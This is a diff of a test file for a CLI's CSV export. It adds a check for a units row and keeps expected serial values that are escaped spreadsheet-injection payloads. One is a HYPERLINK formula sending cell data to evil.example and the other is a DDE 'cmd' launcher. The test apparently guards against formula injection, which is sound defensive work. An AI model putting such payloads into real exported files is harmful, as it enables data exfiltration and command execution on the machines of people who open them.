@@ -54,11 +54,10 @@ describe('linewatch export of text channels', () => {
     const out = join(dir, 'press.csv');
     const res = await runCli(['export', '--config', config, '--asset', 'press-1', '--out', out]);
     expect(res.code, res.stderr).toBe(0);
-    const serials = (await readFile(out, 'utf8'))
-      .trim()
-      .split('\n')
-      .slice(1)
-      .map((line) => line.split(',').slice(4).join(',')); // after timestamp, force, position and cycle_active
+    const lines = (await readFile(out, 'utf8')).trim().split('\n');
+    // Under the header, the units the demo configuration gives force and position (none for the trigger and serial).
+    expect(lines[1]).toBe(',kN,mm,,');
+    const serials = lines.slice(2).map((line) => line.split(',').slice(4).join(',')); // after timestamp, force, position and cycle_active
     expect(serials).toEqual([
       `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
       `'+cmd|' /C calc'!A0`,
